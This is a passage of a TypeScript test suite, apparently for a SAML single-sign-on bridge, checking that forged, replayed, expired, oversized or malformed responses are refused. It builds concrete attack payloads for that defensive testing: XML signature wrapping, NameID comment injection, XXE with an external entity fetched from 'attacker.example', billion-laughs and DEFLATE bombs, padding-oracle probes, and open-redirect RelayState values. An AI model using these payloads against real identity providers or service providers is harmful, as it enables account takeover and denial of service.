          `<saml:Issuer>${EVIL_IDP}</saml:Issuer>`,
          `<saml:Issuer>${conn.idp.entityId}</saml:Issuer>`,
        ),
      reason: 'saml_issuer_mismatch',
    },
    {
      name: 'both Issuers of another IdP, Response and assertion signed',
      build: (conn) => solicited(conn, { issuer: EVIL_IDP }, { sign: 'both' }),
      reason: 'saml_issuer_mismatch',
    },
    {
      name: 'a response the same IdP issued for another tenant of the bridge',
      build: async (conn) => {
        const { requestId } = await startLogin(t, conn.slug);
        return cTenantB.idp.responseXml(victim(cTenantB, { inResponseTo: requestId, ...evilIdentity() }));
      },
      reason: 'saml_destination_mismatch',
    },
    {
      name: "another tenant's response with its Destination removed",
      build: async (conn) => {
        const { requestId } = await startLogin(t, conn.slug);
        return cTenantB.idp.responseXml(
          victim(cTenantB, { inResponseTo: requestId, destination: null, ...evilIdentity() }),
        );
      },
      reason: 'saml_audience_mismatch',
    },
  ];

  const timeVectors: AcsVector[] = [
    {
      name: 'expired (issued 60 min ago, 5 min lifetime)',
      build: (conn) => solicited(conn, { now: minutesFromNow(-60) }),
      reason: 'saml_expired',
    },
    {
      name: 'not yet valid (issued 60 min in the future)',
      build: (conn) => solicited(conn, { now: minutesFromNow(60) }),
      reason: 'saml_not_yet_valid',
    },
    {
      name: 'SubjectConfirmationData NotOnOrAfter past, Conditions still valid',
      build: (conn) =>
        signedEdited(conn, (a) =>
          setAttribute(a, 'saml:SubjectConfirmationData', 'NotOnOrAfter', samlInstant(minutesFromNow(-30))),
        ),
      reason: 'saml_expired',
    },
    {
      name: 'SubjectConfirmationData NotBefore in the future',
      build: (conn) =>
        signedEdited(conn, (a) =>
          addAttribute(a, 'saml:SubjectConfirmationData', `NotBefore="${samlInstant(minutesFromNow(30))}"`),
        ),
      reason: 'saml_not_yet_valid',
    },
    {
      name: 'Conditions NotOnOrAfter past, SubjectConfirmationData still valid',
      build: (conn) =>
        signedEdited(conn, (a) =>
          setAttribute(a, 'saml:Conditions', 'NotOnOrAfter', samlInstant(minutesFromNow(-30))),
        ),
      reason: 'saml_expired',
    },
    {
      name: 'Conditions NotBefore in the future',
      build: (conn) =>
        signedEdited(conn, (a) =>
          setAttribute(a, 'saml:Conditions', 'NotBefore', samlInstant(minutesFromNow(30))),
        ),
      reason: 'saml_not_yet_valid',
    },
    {
      name: 'SessionNotOnOrAfter in the past',
      build: (conn) => solicited(conn, { sessionNotOnOrAfter: minutesFromNow(-60) }),
      reason: 'saml_session_expired',
    },
    {
      name: 'old assertion: IssueInstant 2 days ago, still inside a 3-day validity window',
      build: (conn) => solicited(conn, { now: minutesFromNow(-2 * 24 * 60), lifetimeSeconds: 3 * 24 * 3600 }),
      reason: 'saml_expired',
    },
    {
      name: 'holder-of-key confirmation method',
      build: (conn) => solicited(conn, { confirmationMethod: HOLDER_OF_KEY }),
      reason: 'saml_confirmation_invalid',
    },
    {
      name: 'malformed timestamp: SubjectConfirmationData NotOnOrAfter="not-a-date"',
      build: (conn) =>
        signedEdited(conn, (a) =>
          setAttribute(a, 'saml:SubjectConfirmationData', 'NotOnOrAfter', 'not-a-date'),
        ),
      // Every timestamp is checked as xs:dateTime before any engine sees the message.
      reason: 'saml_malformed_xml',
    },
    {
      name: 'malformed timestamp: Conditions NotBefore="yesterday"',
      build: (conn) =>
        signedEdited(conn, (a) => setAttribute(a, 'saml:Conditions', 'NotBefore', 'yesterday')),
      reason: 'saml_malformed_xml',
    },
    {
      name: 'malformed timestamp: Conditions NotOnOrAfter without a time zone',
      build: (conn) =>
        signedEdited(conn, (a) =>
          setAttribute(
            a,
            'saml:Conditions',
            'NotOnOrAfter',
            samlInstant(minutesFromNow(5)).replace(/Z$/, ''),
          ),
        ),
      reason: 'saml_malformed_xml',
    },
    {
      name: 'malformed timestamp: assertion IssueInstant with a space instead of T',
      build: (conn) =>
        signedEdited(conn, (a) =>
          setAttribute(a, 'saml:Assertion', 'IssueInstant', samlInstant(new Date()).replace('T', ' ')),
        ),
      reason: 'saml_malformed_xml',
    },
  ];

  /** An attacker-made, UNSIGNED assertion encrypted with the SP's public certificate. */
  const encryptedUnsigned = async (
    conn: SamlConnectionFixture,
    dataAlgorithm?: EncryptionSpec['dataAlgorithm'],
  ): Promise<string> => {
    const { requestId } = await startLogin(t, conn.slug);
    const input = victim(conn, { inResponseTo: requestId, ...evilIdentity() });
    const encrypted = await encryptAssertion(conn.idp.assertionXml(input), {
      spCertificatePem: await spCertificate(conn),
      dataAlgorithm,
    });
    return wrap(conn, encrypted, input);
  };

  const attributeVectors: AcsVector[] = [
    {
      // AES-GCM: what decrypts is what was encrypted, so the decrypted assertion is judged as a plaintext one.
      name: 'encrypted (AES-GCM) but unsigned attacker assertion (encrypted with the SP public cert)',
      build: (conn) => encryptedUnsigned(conn),
      reason: 'saml_signature_missing',
    },
    {
      // AES-CBC: a ciphertext can be altered without the key; content whose signature does not verify gets
      // the one answer of every decryption, parse and signature failure (no format oracle).
      name: 'encrypted (AES-CBC) but unsigned attacker assertion (encrypted with the SP public cert)',
      build: (conn) => encryptedUnsigned(conn, 'aes256-cbc'),
      reason: 'saml_encrypted_assertion_invalid',
    },
    {
      name: 'attribute smuggling: two different values of the email attribute',
      build: (conn) => solicited(conn, { attributes: { email: [VICTIM.email, EVIL.email] } }),
      reason: 'saml_attribute_conflict',
    },
    {
      name: 'attribute smuggling: the email attribute twice',
      build: (conn) =>
        signedEdited(conn, (a) =>
          replaceOnce(
            a,
            '</saml:AttributeStatement>',
            `<saml:Attribute Name="email"><saml:AttributeValue>${EVIL.email}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
          ),
        ),
      reason: 'saml_attribute_conflict',
    },
    {
      name: 'attribute smuggling: a second AttributeStatement with another email',
      build: (conn) =>
        signedEdited(conn, (a) =>
          replaceOnce(
            a,
            '</saml:AttributeStatement>',
            `</saml:AttributeStatement><saml:AttributeStatement><saml:Attribute Name="email"><saml:AttributeValue>${EVIL.email}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
          ),
        ),
      reason: 'saml_attribute_conflict',
    },
    {
      name: 'IdP error status (AuthnFailed)',
      build: (conn) => solicited(conn, { statusCode: 'AuthnFailed' }),
      reason: 'saml_idp_error_status',
    },
    {
      name: 'IdP error status (Requester), signed Response',
      conn: () => cResponse,
      build: (conn) => solicited(conn, { statusCode: 'Requester' }, { sign: 'response' }),
      reason: 'saml_idp_error_status',
    },
  ];

  describe('§3 content and semantics', () => {
    it.each(contentVectors)('$name → $reason', runVector);
    it.each(addressingVectors)('$name → $reason', runVector);
    it.each(timeVectors)('$name → $reason', runVector);
    it.each(attributeVectors)('$name → $reason', runVector);
    it.each(bindingVectors)('$name → $reason', runVector);

    it('an empty CDATA section splitting the NameID: the whole text is the identity, never the prefix', async () => {
      const xml = replaceOnce(
        await solicited(cOk, { nameId: COMMENT_ACCOUNT, attributes: { email: COMMENT_ACCOUNT } }),
        `>${COMMENT_ACCOUNT}</saml:NameID>`,
        `>${COMMENT_TARGET}<![CDATA[]]>.evil.com</saml:NameID>`,
      );
      // xmldom merges an empty CDATA section into the surrounding text, as exclusive c14n does: the bridge
      // may refuse it, or accept it as the attacker's own account; never as admin@example.com.
      const res = await postAcs(cOk, xml);
      const outcome = res.status === 303 ? 'accepted' : reasonOf(res.text);
      expect(['accepted', 'saml_comment_in_value']).toContain(outcome);
      const cookie = cookieFrom(res);
      const signedInAs = cookie
        ? ((
            await t
              .http()
              .get('/saml/session')
              .set('Cookie', cookie)
              .set('Accept', 'application/json')
              .expect(200)
          ).body.user.email as string)
        : COMMENT_ACCOUNT;
      expect(signedInAs).toBe(COMMENT_ACCOUNT);
      await expectNoEvilUsers([COMMENT_TARGET]);
    });

    it('RelayState of another login on an SP-initiated response → saml_relay_state_invalid', async () => {
      const xml = await solicited(c, evilIdentity());
      const other = await startLogin(t, c.slug);
      await expectAcsRefused(c, () => postAcs(c, xml, other.requestId), 400, 'saml_relay_state_invalid');
    });

    it('replay of an accepted IdP-initiated response → saml_replay (also re-wrapped in a new Response)', async () => {
      const xml = cIdp.idp.responseXml(victim(cIdp, { nameId: 'idp-init-replay' }));
      const ok = await postAcs(cIdp, xml);
      expect(ok.status).toBe(303);
      expect(ok.headers.location).toBe('/home');
      await expectAcsRefused(cIdp, () => postAcs(cIdp, xml), 400, 'saml_replay');
      // The same signed assertion in a fresh Response (new Response ID, new IssueInstant).
      const signed = requireMatch(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, xml, 'assertion')[0];
      const rewrapped = wrap(cIdp, signed, victim(cIdp, { nameId: 'idp-init-replay' }));
      expect(rewrapped).not.toBe(xml);
      await expectAcsRefused(cIdp, () => postAcs(cIdp, rewrapped), 400, 'saml_replay');
    });

    it('replay of an accepted SP-initiated response, and a new response to an answered request → saml_in_response_to_unknown', async () => {
      const { xml, requestId } = await solicitedWithId(cOk, { nameId: 'sp-init-replay' });
      expect((await postAcs(cOk, xml)).status).toBe(303);
      await expectAcsRefused(cOk, () => postAcs(cOk, xml), 400, 'saml_in_response_to_unknown');
      const second = cOk.idp.responseXml(victim(cOk, { inResponseTo: requestId, ...evilIdentity() }));
      await expectAcsRefused(cOk, () => postAcs(cOk, second), 400, 'saml_in_response_to_unknown');
    });

    it('a solicited assertion replayed as unsolicited (Response InResponseTo stripped) → saml_in_response_to_mismatch', async () => {
      const { xml } = await solicitedWithId(cIdp, evilIdentity());
      const unsolicited = xml.replace(
        /(<samlp:Response [^>]*?) InResponseTo="[^"]*"/,
        (_m, head: string) => head,
      );
      expect(unsolicited).not.toMatch(/<samlp:Response [^>]*InResponseTo=/);
      await expectAcsRefused(cIdp, () => postAcs(cIdp, unsolicited), 400, 'saml_in_response_to_mismatch');
    });
  });

  // -------------------------------------------------------------------------------------------------------
  // §4 Parser / XML level
  // -------------------------------------------------------------------------------------------------------

  const nested = (depth: number) =>
    `<x:n xmlns:x="urn:example:deep">${'<x:n>'.repeat(depth - 1)}${'</x:n>'.repeat(depth)}`;

  const parserVectors: AcsVector[] = [
    ...(['xxe', 'billion-laughs', 'external-dtd'] as const).map((k): AcsVector => ({
      name: `DOCTYPE ${k} (UTF-8)`,
      build: async (conn) => withDoctype(await solicited(conn), k).xml,
      reason: 'saml_doctype_forbidden',
    })),
    ...(
      [
        ['UTF-16LE with BOM', 'le-bom', 'xxe'],
        ['UTF-16BE with BOM', 'be-bom', 'xxe'],
        ['UTF-16LE without BOM', 'le', 'xxe'],
        ['UTF-16LE with BOM', 'le-bom', 'billion-laughs'],
        ['UTF-16BE with BOM', 'be-bom', 'external-dtd'],
      ] as const
    ).map(([label, variant, k]): AcsVector => ({
      name: `DOCTYPE ${k} (${label})`,
      build: async (conn) => utf16(withDoctype(await solicited(conn), k).xml, variant),
      reason: 'saml_doctype_forbidden',
    })),
    {
      name: 'DOCTYPE xxe (UTF-8 with BOM)',
      build: async (conn) =>
        Buffer.concat([
          Buffer.from([0xef, 0xbb, 0xbf]),
          Buffer.from(withDoctype(await solicited(conn), 'xxe').xml),
        ]),
      reason: 'saml_doctype_forbidden',
    },
    {
      name: 'DOCTYPE with an external parameter entity',
      build: async (conn) =>
        `<!DOCTYPE samlp:Response [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd">%ext;]>${await solicited(conn)}`,
      reason: 'saml_doctype_forbidden',
    },
    {
      name: 'element nesting 60 deep (no DTD)',
      build: async (conn) => withExtensions(await solicited(conn), nested(60)),
      reason: 'saml_message_too_large',
      status: 413,
    },
    {
      name: '12 000 elements (no DTD)',
      build: async (conn) =>
        withExtensions(
          await solicited(conn),
          `<x:f xmlns:x="urn:example:flood">${'<x:e/>'.repeat(12_000)}</x:f>`,
        ),
      reason: 'saml_message_too_large',
      status: 413,
    },
    {
      name: '12 000 attributes on one element (no DTD)',
      build: async (conn) =>
        withExtensions(
          await solicited(conn),
          `<x:f xmlns:x="urn:example:flood"${Array.from({ length: 12_000 }, (_, i) => ` a${i}=""`).join('')}/>`,
        ),
      reason: 'saml_message_too_large',
      status: 413,
    },
    {
      name: '12 000 namespace declarations (no DTD)',
      build: async (conn) =>
        withExtensions(
          await solicited(conn),
          `<x:f xmlns:x="urn:example:flood"${Array.from({ length: 12_000 }, (_, i) => ` xmlns:p${i}="u:${i}"`).join('')}/>`,
        ),
      reason: 'saml_message_too_large',
      status: 413,
    },
    {
      name: 'unterminated processing instruction',
      build: async (conn) => withExtensions(await solicited(conn), '<?evil never ends'),
      reason: 'saml_malformed_xml',
    },
    {
      name: 'duplicate attribute on the Response (Destination twice)',
      build: async (conn) =>
        replaceOnce(
          await solicited(conn),
          '<samlp:Response ',
          `<samlp:Response Destination="${EVIL_SP}/acs" `,
        ),
      reason: 'saml_malformed_xml',
    },
    {
      name: 'end tag with trailing junk',
      build: async (conn) => replaceOnce(await solicited(conn), '</saml:NameID>', '</saml:NameID junk="1">'),
      reason: 'saml_malformed_xml',
    },
    {
      name: 'evil Assertion in a look-alike SAML namespace before the signed one',
      build: async (conn) => {
        const { xml, requestId } = await solicitedWithId(conn);
        const evil = conn.idp
          .assertionXml(victim(conn, { inResponseTo: requestId, ...evilIdentity() }))
          .replace(`xmlns:saml="${SAML_NS}"`, `xmlns:saml="${SAML_NS}#"`);
        return replaceOnce(xml, '<saml:Assertion ', `${evil}<saml:Assertion `);
      },
      // Our policy counts namespace-qualified assertions (one); node-saml selects by local-name() only and
      // refuses "Invalid signature: multiple assertions", which the bridge reports as such.
      reason: 'saml_multiple_assertions',
    },
    {
      name: 'a 340 KB SAMLResponse (under the body limit, over the message limit)',
      build: async () => Buffer.from(hugeBase64Response(0.34), 'base64'),
      reason: 'saml_message_too_large',
      status: 413,
    },
    {
      name: 'base64 of text that is not XML',
      build: async () => 'hello, this is not XML',
      reason: 'saml_malformed_xml',
    },
    {
      name: 'base64 of bytes that are not valid UTF-8',
      build: async () => Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e]),
      reason: 'saml_malformed_xml',
    },
    {
      name: 'UTF-16 BOM followed by an odd number of bytes',
      build: async () =>
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a/>', 'utf16le'), Buffer.from([0x00])]),
      reason: 'saml_malformed_xml',
    },
    {
      name: 'a genuinely signed LogoutResponse posted to the ACS',
      build: async (conn) => {
        const { requestId } = await startLogin(t, conn.slug);
        return conn.idp.logoutResponseXml(
          { destination: conn.acsUrl, inResponseTo: requestId },
          { sign: true },
        );
      },
      reason: 'saml_not_a_response',
    },
  ];

  describe('§4 parser and XML level', () => {
    it.each(parserVectors)('$name → $reason', runVector);

    it('a 5 MB SAMLResponse body → 413 payload_too_large (body-parser limit, before any SAML code)', async () => {
      const before = await userCount(c);
      const res = await t
        .http()
        .post(`/saml/${c.slug}/acs`)
        .type('form')
        .send({ SAMLResponse: hugeBase64Response(5) });
      // Even before any SAML code runs, a browser on /saml gets the HTML page with its reason code.
      expect({ status: res.status, reason: reasonOf(res.text) }).toEqual({
        status: 413,
        reason: 'payload_too_large',
      });
      expect(res.headers['content-type']).toMatch(/^text\/html/);
      expect(cookieFrom(res)).toBeUndefined();
      expectNoInternals(res.text);
      expect(await userCount(c)).toBe(before);
    });

    it.each([
      [
        'SAMLResponse that is not base64',
        'saml_message_not_base64',
        { SAMLResponse: 'PHNhbWxwOl<>!!not*base64' },
      ],
      ['empty SAMLResponse', 'saml_message_missing', { SAMLResponse: '' }],
      ['empty body', 'saml_message_missing', {}],
      [
        'SAMLResponse given twice',
        'saml_message_missing',
        'SAMLResponse=PGEvPg%3D%3D&SAMLResponse=PGIvPg%3D%3D',
      ],
    ] as Array<[string, SamlReason, Record<string, string> | string]>)(
      '%s → %s',
      async (_name, reason, body) => {
        await expectAcsRefused(
          c,
          () =>
            t
              .http()
              .post(`/saml/${c.slug}/acs`)
              .type('form')
              .send(body)
              .then((r) => r),
          400,
          reason,
        );
      },
    );

    it('a Redirect-binding DEFLATE bomb (≈1000:1) to the SLO endpoint → 413 saml_message_too_large', async () => {
      const { SAMLRequest } = deflateBomb(5);
      expect(SAMLRequest.length).toBeLessThan(12_000);
      const started = Date.now();
      const res = await t.http().get(`/saml/${c.slug}/slo?SAMLRequest=${encodeURIComponent(SAMLRequest)}`);
      expect({ status: res.status, reason: reasonOf(res.text) }).toEqual({
        status: 413,
        reason: 'saml_message_too_large',
      });
      expect(Date.now() - started).toBeLessThan(5_000);
      expectNoInternals(res.text);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  // §5 Encryption
  // -------------------------------------------------------------------------------------------------------

  const encrypted = async (conn: SamlConnectionFixture, opts: Partial<EncryptionSpec> = {}) =>
    solicited(conn, evilIdentity(), {
      sign: 'assertion',
      encrypt: { spCertificatePem: await spCertificate(conn), ...opts },
    });

  /** Flips one base64 character of the EncryptedData's (last) CipherValue. */
  const flipCiphertext = (xml: string, at: 'start' | 'end'): string => {
    const values = [...xml.matchAll(/<xenc:CipherValue>([^<]+)<\/xenc:CipherValue>/g)];
    const last = values[values.length - 1];
    if (!last || last.index === undefined) throw new Error('test setup: no CipherValue');
    const b64 = need(last[1], 'CipherValue text');
    const i = at === 'start' ? 4 : b64.replace(/=+$/, '').length - 30;
    const flipped = b64.slice(0, i) + (b64[i] === 'A' ? 'B' : 'A') + b64.slice(i + 1);
    return (
      xml.slice(0, last.index) +
      `<xenc:CipherValue>${flipped}</xenc:CipherValue>` +
      xml.slice(last.index + last[0].length)
    );
  };

  const encryptionVectors: AcsVector[] = [
    {
      name: 'rsa-1_5 key transport',
      build: (conn) => encrypted(conn, { keyAlgorithm: 'rsa-1_5' }),
      reason: 'saml_encryption_algorithm_forbidden',
    },
    {
      name: '3DES content encryption',
      build: (conn) => encrypted(conn, { dataAlgorithm: 'tripledes-cbc' }),
      reason: 'saml_encryption_algorithm_forbidden',
    },
    {
      name: 'two EncryptedKey elements',
      build: async (conn) => {
        const xml = await encrypted(conn);
        const key = requireMatch(/<e:EncryptedKey[\s\S]*?<\/e:EncryptedKey>/, xml, 'EncryptedKey')[0];
        return replaceOnce(xml, key, key + key);
      },
      reason: 'saml_encrypted_assertion_invalid',
    },
    {
      name: 'two EncryptedData elements',
      build: async (conn) => {
        const xml = await encrypted(conn);
        const data = requireMatch(
          /<xenc:EncryptedData[\s\S]*?<\/xenc:EncryptedData>/,
          xml,
          'EncryptedData',
        )[0];
        return replaceOnce(xml, data, data + data);
      },
      reason: 'saml_encrypted_assertion_invalid',
    },
  ];

  describe('§5 encryption', () => {
    it.each(encryptionVectors)('$name → $reason', runVector);

    it('decryption, padding, parse and signature failures look the same (no CBC padding / format oracle)', async () => {
      const other = await generateTestKeyPair('Some other SP');
      const spCertificatePem = await spCertificate(c);
      const builds: Array<[string, () => Promise<string>]> = [
        ['unsigned attacker assertion (AES-CBC)', () => encryptedUnsigned(c, 'aes256-cbc')],
        [
          'CBC ciphertext, first block flipped',
          async () => flipCiphertext(await encrypted(c, { dataAlgorithm: 'aes256-cbc' }), 'start'),
        ],
        [
          'CBC ciphertext, padding block flipped',
          async () => flipCiphertext(await encrypted(c, { dataAlgorithm: 'aes256-cbc' }), 'end'),
        ],
        ['GCM ciphertext flipped', async () => flipCiphertext(await encrypted(c), 'start')],
        [
          'encrypted for another SP key',
          () =>
            solicited(c, evilIdentity(), {
              sign: 'assertion',
              encrypt: { spCertificatePem: other.certificatePem },
            }),
        ],
        [
          'signed by an attacker key, then encrypted',
          () =>
            solicited(c, evilIdentity(), {
              sign: 'assertion',
              signingKeys: attacker,
              encrypt: { spCertificatePem },
            }),
        ],
      ];
      const pages = new Map<string, string>();
      for (const [name, build] of builds) {
        const xml = await build();
        const res = await expectAcsRefused(c, () => postAcs(c, xml), 400, 'saml_encrypted_assertion_invalid');
        pages.set(name, res.text.replace(/Trace id: <code>[^<]*<\/code>/, 'Trace id: <code>…</code>'));
      }
      expect(new Set(pages.values()).size).toBe(1);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  // §5 Every structural and semantic attack again, inside an EncryptedAssertion
  // -------------------------------------------------------------------------------------------------------

  /**
   * The encrypted twins of the vectors above: the same hostile message with its assertions encrypted to
   * the SP's key (AES-GCM), as AD FS sends it (assertion signed, then encrypted; the Response as it was)
   * and as Okta does (the Response signed again after encryption, with the IdP's key). The bridge decrypts
   * first and checks what the IdP serialised, so each twin is refused as its plaintext original, except
   * that a signature that does not verify gets the one answer of every decryption, parse and signature
   * failure of an encrypted assertion (SAML-ATTACKS.md §5: no format oracle).
   */
  type Shape = 'adfs' | 'okta';
  const twinOf =
    (v: AcsVector, shape: Shape) =>
    async (conn: SamlConnectionFixture): Promise<string> => {
      const plaintext = await v.build(conn);
      if (typeof plaintext !== 'string') throw new Error('test setup: the vector is not XML text');
      const spec = { spCertificatePem: await spCertificate(conn) };
      return encryptedTwin(
        plaintext,
        spec,
        shape === 'adfs' ? { kind: 'adfs' } : { kind: 'okta', responseKeys: conn.idp.keys },
      );
    };

  /** Vectors without an encrypted twin: no assertion to encrypt, already encrypted, or not XML. */
  const NO_TWIN = new Set([
    'a second root element after the signed document (CVE-2022-39299)',
    'a second root element after a response-signed document',
    'IdP error status (AuthnFailed)',
    'IdP error status (Requester), signed Response',
    'encrypted (AES-GCM) but unsigned attacker assertion (encrypted with the SP public cert)',
    'encrypted (AES-CBC) but unsigned attacker assertion (encrypted with the SP public cert)',
  ]);
  /**
   * Vectors whose attack is on the Response signature or on the absence or validity of signatures: a
   * Response the IdP signs after encryption vouches for everything in it, so their Okta-shaped twin is no
   * attack (or, for XSW1/2, is built from an Okta-shaped response below).
   */
  const NOT_OKTA = (v: AcsVector): boolean =>
    /^XSW[12],/.test(v.name) ||
    v.reason === 'saml_signature_invalid' ||
    (v.reason === 'saml_signature_missing' &&
      v.name !== 'only the Response signed, connection requires the assertion signature') ||
    [
      'signature over a different element (assertion signature moved onto the Response)',
      'RSA-SHA1 signature on the Response',
      'ds:Object wrap: evil copy of the signed Response in ds:Object',
      'duplicate ID on a response-signed input (marker in ds:Object)',
    ].includes(v.name);
  /** The AD FS shape keeps the Response signature, which encryption breaks: XSW1/2 need their own twin. */
  const NOT_ADFS = (v: AcsVector): boolean => /^XSW[12],/.test(v.name);

  /** The Okta shape signs the Response: a signed Response without a Destination is refused for that first. */
  const OKTA_REASON: Record<string, SamlReason> = {
    "another tenant's response with its Destination removed": 'saml_destination_mismatch',
  };
  const twinReason = (v: AcsVector, shape: Shape): SamlReason =>
    (shape === 'okta' ? OKTA_REASON[v.name] : undefined) ??
    (v.reason === 'saml_signature_invalid' ? 'saml_encrypted_assertion_invalid' : v.reason);
  const twins = (shape: Shape): AcsVector[] =>
    [
      ...wrappingVectors,
      ...signatureVectors,
      ...contentVectors,
      ...addressingVectors,
      ...timeVectors,
      ...attributeVectors,
      ...bindingVectors,
    ]
      .filter((v) => !NO_TWIN.has(v.name) && !(shape === 'okta' ? NOT_OKTA(v) : NOT_ADFS(v)))
      .map((v) => ({ ...v, build: twinOf(v, shape), reason: twinReason(v, shape) }));

  /** XSW1/2 on an Okta-shaped response: the Response (with its EncryptedAssertion) cloned around its signature. */
  const oktaXsw =
    (id: 'XSW1' | 'XSW2') =>
    async (conn: SamlConnectionFixture): Promise<string> => {
      const okta = await encryptedTwin(
        await solicited(conn),
        { spCertificatePem: await spCertificate(conn) },
        { kind: 'okta', responseKeys: conn.idp.keys },
      );
      const variant = xswVariants(okta, { nameId: EVIL.subject, email: EVIL.email }).find((v) => v.id === id);
      if (!variant) throw new Error(`test setup: no ${id}`);
      return variant.xml;
    };

  describe('§5 the attacks again, inside an EncryptedAssertion', () => {
    it('control: encrypted twins of untouched responses are accepted in both shapes', async () => {
      for (const [conn, sign, shape] of [
        [cOk, 'assertion', 'adfs'],
        [cAssertion, 'assertion', 'adfs'],
        [cOk, 'assertion', 'okta'],
        [cOk, 'none', 'okta'],
        [cResponse, 'none', 'okta'],
        [cAssertion, 'assertion', 'okta'],
      ] as Array<[SamlConnectionFixture, SignMode, Shape]>) {
        const plain = await solicited(conn, { nameId: `twin-${sign}-${shape}` }, { sign });
        const twin = await twinOf(
          { name: 'control', build: async () => plain, reason: 'saml_replay' },
          shape,
        )(conn);
        expect(twin).toContain('EncryptedAssertion');
        const res = await postAcs(conn, twin);
        expect({ slug: conn.slug, sign, shape, status: res.status }).toEqual({
          slug: conn.slug,
          sign,
          shape,
          status: 303,
        });
      }
    });

    it.each(twins('adfs'))('AD FS shape (assertion signed, then encrypted): $name → $reason', runVector);
    it.each(twins('okta'))(
      'Okta shape (Response signed over the EncryptedAssertion): $name → $reason',
      runVector,
    );
    it.each([
      { name: 'XSW1, requiredSignature=response', conn: () => cResponse, build: oktaXsw('XSW1') },
      { name: 'XSW1, requiredSignature=either', build: oktaXsw('XSW1') },
      { name: 'XSW2, requiredSignature=response', conn: () => cResponse, build: oktaXsw('XSW2') },
      { name: 'XSW2, requiredSignature=either', build: oktaXsw('XSW2') },
    ] as Array<Omit<AcsVector, 'reason'>>)('Okta shape: $name → saml_duplicate_id', (v) =>
      runVector({ ...v, reason: 'saml_duplicate_id' }),
    );

    it('AD FS shape with AES-CBC: RSA-SHA1 and a NameID comment, genuinely signed, are refused for what they are', async () => {
      const cbc = async (conn: SamlConnectionFixture, xml: string) =>
        encryptedTwin(
          xml,
          { spCertificatePem: await spCertificate(conn), dataAlgorithm: 'aes256-cbc' },
          {
            kind: 'adfs',
          },
        );
      await expectAcsRefused(
        c,
        async () =>
          postAcs(
            c,
            await cbc(
              c,
              await solicited(
                c,
                {},
                { sign: 'assertion', signatureAlgorithm: 'rsa-sha1', digestAlgorithm: 'sha1' },
              ),
            ),
          ),
        400,
        'saml_signature_algorithm_forbidden',
      );
      await expectAcsRefused(
        c,
        async () =>
          postAcs(c, await cbc(c, commentInjection(await solicited(c, { nameId: COMMENT_ACCOUNT })).xml)),
        400,
        'saml_comment_in_value',
      );
      // What the IdP did not sign gets the one answer (format oracle): HMAC keyed with the certificate.
      await expectAcsRefused(
        c,
        async () => postAcs(c, await cbc(c, hmacSignatureMethod(await solicited(c, evilIdentity())).xml)),
        400,
        'saml_encrypted_assertion_invalid',
      );
      // With SHA-1 allowed, the same legacy response signs in (control).
      const legacy = await cbc(
        cSha1,
        await solicited(
          cSha1,
          { nameId: 'legacy-sha1-cbc' },
          { sign: 'assertion', signatureAlgorithm: 'rsa-sha1', digestAlgorithm: 'sha1' },
        ),
      );
      expect((await postAcs(cSha1, legacy)).status).toBe(303);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  // §6 Bindings and logout
  // -------------------------------------------------------------------------------------------------------

  describe('§6 bindings', () => {
    it.each([
      'https://evil.example/',
      'javascript:alert(document.domain)',
      '//evil.example/',
      '/\\evil.example',
      'https:evil.example',
      ` /${'a'.repeat(10)}`,
      `/${'a'.repeat(100)}`,
    ])('IdP-initiated RelayState %j never becomes the Location', async (relayState) => {
      const xml = cIdp.idp.responseXml(victim(cIdp, { nameId: 'relay-user' }));
      const res = await postAcs(cIdp, xml, relayState);
      expect(res.status).toBe(303);
      expect(res.headers.location).toBe('/home');
    });

    it('IdP-initiated RelayState that is a short same-origin path is honoured (control)', async () => {
      const res = await postAcs(
        cIdp,
        cIdp.idp.responseXml(victim(cIdp, { nameId: 'relay-user' })),
        '/app?x=1',
      );
      expect(res.status).toBe(303);
      expect(res.headers.location).toBe('/app?x=1');
    });

    it.each(['https://evil.example/', '//evil.example', 'javascript:alert(1)', '/\\evil.example'])(
      'SP-initiated returnTo %j → 400 saml_relay_state_invalid',
      async (returnTo) => {
        const res = await t.http().get(`/saml/${c.slug}/login?returnTo=${encodeURIComponent(returnTo)}`);
        expect({ status: res.status, reason: reasonOf(res.text) }).toEqual({
          status: 400,
          reason: 'saml_relay_state_invalid',
        });
        expect(res.headers.location).toBeUndefined();
      },
    );

    it('login CSRF: a response to a login started in another browser is refused', async () => {
      // The attacker starts a login in their own browser and gets their own genuine response...
      const start = await t.http().get(`/saml/${c.slug}/login`).expect(303);
      const requestId = requireMatch(
        /ID="([^"]+)"/,
        authnRequestXml(start.headers.location as string),
        'AuthnRequest ID',
      )[1];
      const own = c.idp.responseXml(victim(c, { inResponseTo: requestId, ...evilIdentity() }));
      // ...and auto-posts it from the victim's browser, which has none of the login's cookies: the ACS
      // validates it, but the same-site continue step refuses the victim's browser.
      await expectAcsRefused(c, () => postAcs(c, own, requestId), 403, 'saml_browser_mismatch');
    });
  });

  describe('§6 single logout', () => {
    let slo: SamlConnectionFixture;
    let cookie: string;
    const SLO_USER = 'slo-victim';

    beforeAll(async () => {
      slo = await createTestConnection(t, 'atk-slo');
      cookie = await login(slo, SLO_USER);
    });

    async function login(conn: SamlConnectionFixture, nameId: string): Promise<string> {
      const res = await postAcs(conn, await solicited(conn, { nameId, sessionIndex: `idx-${nameId}` }));
      expect(res.status).toBe(303);
      const value = cookieFrom(res);
      if (!value) throw new Error('test setup: no session cookie');
      return value;
    }

    async function sessionAlive(value: string): Promise<boolean> {
      const res = await t.http().get('/saml/session').set('Cookie', value);
      return res.status === 200;
    }

    const logoutRequest = (overrides: Partial<LogoutRequestInput> = {}, idp?: TestIdp) =>
      (idp ?? slo.idp).logoutRequestXml({
        spEntityId: slo.spEntityId,
        destination: slo.sloUrl,
        nameId: SLO_USER,
        ...overrides,
      });

    const redirect = (query: string): Promise<HttpResponse> =>
      t
        .http()
        .get(`/saml/${slo.slug}/slo?${query}`)
        .then((r) => r);
    const postBinding = (xml: string | Buffer): Promise<HttpResponse> =>
      t
        .http()
        .post(`/saml/${slo.slug}/slo`)
        .type('form')
        .send({ SAMLRequest: (typeof xml === 'string' ? Buffer.from(xml) : xml).toString('base64') })
        .then((r) => r);

